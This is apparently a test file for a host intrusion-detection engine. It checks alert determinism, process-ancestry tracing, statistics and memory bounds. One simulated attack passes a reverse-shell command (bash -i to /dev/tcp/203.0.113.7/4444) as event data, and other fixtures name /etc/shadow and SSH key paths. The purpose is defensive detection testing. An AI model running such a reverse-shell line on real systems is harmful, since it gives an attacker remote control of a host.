import errno

import msgspec
from hypothesis import given, settings
from hypothesis import strategies as st

from actors.detection.addresses import is_external
from actors.detection.builtin import builtin_set
from actors.detection.engine import Engine, Traced
from actors.detection.events import AnyEvent, ConnectEvent, ExecEvent
from actors.detection.settings import FilterSettings
from actors.detection.testing import Host, rules
from actors.detection.text import printable

EXES = ("/usr/bin/bash", "/usr/bin/dash", "/usr/bin/cat", "/tmp/x", "/usr/bin/python3.11")
ARGUMENTS = ((), ("-c", "eval x"), ("-l",))
FILES = ("/etc/shadow", "/etc/hostname", "/root/.ssh/x")
ADDRESSES = ("203.0.113.7", "127.0.0.1", "::1", "2001:db8::1", "")


@st.composite
def histories(draw: st.DrawFn) -> list[AnyEvent]:
    host = Host()
    processes = [host.init, host.sshd, host.bash, (9999, 5)]
    for kind, who, what in draw(
        st.lists(st.tuples(st.integers(0, 5), st.integers(0, 99), st.integers(0, 99)), max_size=60)
    ):
        process = processes[who % len(processes)]
        match kind:
            case 0:
                processes.append(host.fork(process))
            case 1:
                exe = EXES[what % len(EXES)]
                host.exec(process, exe, *ARGUMENTS[what % 3], system=what % 2 == 0)
            case 2:
                host.open(process, FILES[what % len(FILES)])
            case 3:
                host.connect(process, ADDRESSES[what % len(ADDRESSES)], (80, 4444)[what % 2])
            case 4:
                host.exit(process)
            case _:
                host.wait(what - 3)
    return host.events


def encoded(events: list[AnyEvent], *, batch: int) -> bytes:
    engine = Engine(builtin_set(FilterSettings()))
    alerts = [
        alert
        for start in range(0, len(events), batch)
        for alert in engine.process_batch(events[start : start + batch])
    ]
    assert engine.statistics().alerts == len(alerts)
    return msgspec.json.encode(alerts)


@settings(max_examples=100, deadline=None)
@given(histories(), st.integers(1, 50))
def test_the_same_events_give_the_same_bytes(events: list[AnyEvent], batch: int) -> None:
    assert encoded(events, batch=batch) == encoded(events, batch=1)


@settings(max_examples=100, deadline=None)
@given(histories())
def test_executions_and_connections_are_traced_to_their_ancestry_of_that_moment(
    events: list[AnyEvent],
) -> None:
    one_by_one, at_once = (
        Engine(builtin_set(FilterSettings())),
        Engine(builtin_set(FilterSettings())),
    )
    expected = []
    for event in events:
        one_by_one.process(event)
        if isinstance(event, ExecEvent | ConnectEvent):
            expected.append((event, one_by_one.table.ancestry(event.identity)))
    traced: list[Traced] = []
    at_once.process_batch(events, traced=traced)
    assert traced == expected


@settings(max_examples=100, deadline=None)
@given(histories())
def test_a_recording_gives_the_same_bytes(events: list[AnyEvent]) -> None:
    recording = msgspec.json.encode(events)
    replayed = msgspec.json.decode(recording, type=list[AnyEvent])
    assert encoded(replayed, batch=7) == encoded(events, batch=7)


def test_an_attack_from_start_to_end() -> None:
    host = Host()
    nginx, _ = host.run(host.init, "/usr/sbin/nginx")
    shell, alerts = host.run(nginx, "/usr/bin/bash", "-c", "bash -i >& /dev/tcp/203.0.113.7/4444")
    assert rules(alerts) == ["unexpected-shell-spawn", "obfuscated-command"]
    alerts = host.connect(shell, "203.0.113.7", 4444)
    assert rules(alerts) == ["suspicious-port", "shell-outbound-connection", "first-network-caller"]
    assert alerts[-1].severity == "CRITICAL"
    child, alerts = host.run(shell, "/usr/bin/dash", filename="/bin/sh")
    assert rules(alerts) == ["reverse-shell"]
    assert (alerts[0].pid, alerts[0].ancestry) == (child[0], "systemd=>nginx=>bash=>dash")
    assert alerts[0].score == 90 + 20 + 10 + 25


def test_statistics_count_everything() -> None:
    host = Host()
    child, _ = host.run(host.bash, "/usr/bin/cat")
    host.exec(child, "/usr/bin/none", error=errno.ENOENT)
    host.open(child, "/etc/shadow")
    host.connect(child)
    host.exit(child)
    host.now_ns -= 3_000_000
    host.open(child, "/etc/hostname")
    statistics = host.engine.statistics()
    assert (statistics.seeds, statistics.forks, statistics.execs) == (3, 1, 2)
    assert (statistics.opens, statistics.connects, statistics.exits) == (2, 1, 1)
    assert (statistics.late, statistics.alerts, statistics.callers) == (1, 2, 1)
    assert (statistics.pairs, statistics.table.processes, statistics.table.exited) == (3, 4, 1)
    msgspec.json.encode(statistics)


def test_opens_nobody_wants_leave_no_trace() -> None:
    host = Host()
    for number in range(100):
        host.open((5000 + number, host.now_ns), f"/usr/lib/x{number}")
    assert host.engine.statistics().table.processes == 3


def test_a_fork_storm_stays_within_bounds() -> None:
    host = Host(max_processes=1024)
    parent = host.bash
    for number in range(60_000):
        child = host.fork(parent)
        host.exec(child, f"/tmp/storm{number % 5000}", system=False)
        if number % 3 == 0:
            host.connect(child)
        else:
            host.open(child, "/etc/shadow")
        if number % 2:
            host.exit(child)
        if number % 7 == 0:
            parent = child
        host.events.clear()
    statistics = host.engine.statistics()
    assert statistics.table.processes <= 1024
    assert statistics.windows <= 1024
    assert statistics.callers <= 8192
    assert statistics.pairs <= 16_384
    assert len(host.engine.table._by_pid) <= 1024
    assert len(host.engine.table._children) <= 1024
    assert statistics.table.evicted_alive > 0


@given(st.text(), st.integers(1, 600))
def test_printable_text_is_printable_and_bounded(text: str, limit: int) -> None:
    shown = printable(text, limit=limit)
    assert shown.isprintable()
    assert len(shown) <= limit
    if text.isprintable() and len(text) <= limit:
        assert shown == text


def test_text_that_deceives_is_escaped() -> None:
    assert printable("a\x1b[0m\n\u202eb\u200d\u2028") == "a\\x1b[0m\\n\\u202eb\\u200d\\u2028"
    assert printable("x" * 20, limit=5) == "xxxx…"


def test_text_that_is_no_address_counts_as_external() -> None:
    assert is_external("nonsense")
    assert not is_external("::ffff:0.0.0.0")


def test_an_alert_tells_the_processes_of_its_lineage_oldest_first() -> None:
    host = Host()
    server = host.seed(host.init, "/usr/sbin/nginx")
    shell, _ = host.run(server, "/usr/bin/bash", "-i")
    (alert, *_) = Engine(builtin_set(FilterSettings())).process_batch(host.events)
    assert [each.name for each in alert.processes] == ["systemd", "nginx", "bash"]
    above, last = alert.processes[-2:]
    assert (last.pid, last.start_ns) == shell == alert.identity
    assert (last.ppid, last.parent_start_ns) == (above.pid, above.start_ns) == server
    assert alert.lineage in [(each.pid, each.start_ns) for each in alert.processes]
    assert alert.processes[0].parent_start_ns == 0
